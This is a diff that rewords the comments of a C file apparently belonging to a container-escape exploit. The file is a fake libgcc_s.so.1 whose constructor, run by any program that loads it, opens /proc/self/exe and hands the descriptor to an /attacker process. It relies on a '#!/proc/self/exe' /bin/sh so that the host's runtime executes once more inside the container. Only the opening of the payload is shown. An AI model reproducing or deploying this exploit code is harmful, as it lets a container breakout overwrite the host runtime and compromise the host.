@@ -1,7 +1,7 @@
-/* The container's own libgcc_s.so.1. Its constructor runs in every program that loads it: in the container that is the
- * program that /bin/sh, which begins with "#!/proc/self/exe", makes the kernel execute once more.
+/* The container's own libgcc_s.so.1. Its constructor runs in every program that loads it. In the container that is the
+ * host's program: /bin/sh begins with "#!/proc/self/exe", so the kernel executes the program once more.
  *
- * It keeps a descriptor of the program's file, and gives it to /attacker in a process of its own. */
+ * The constructor opens the program's file, and starts /attacker with the descriptor, in a process of its own. */
 #define _GNU_SOURCE
 #include <fcntl.h>
 #include <stdio.h>
@@ -12,7 +12,7 @@ __attribute__((constructor)) static void attack(void)
 {
 	char number[16];
 	struct stat exe;
-	/* Not the container's own process 1, nor another program before the joins. */
+	/* Without /attacker this process is not in the container's root directory. */
 	if (access("/attacker", X_OK) != 0)
 		return;
 	int fd = open("/proc/self/exe", O_RDONLY);
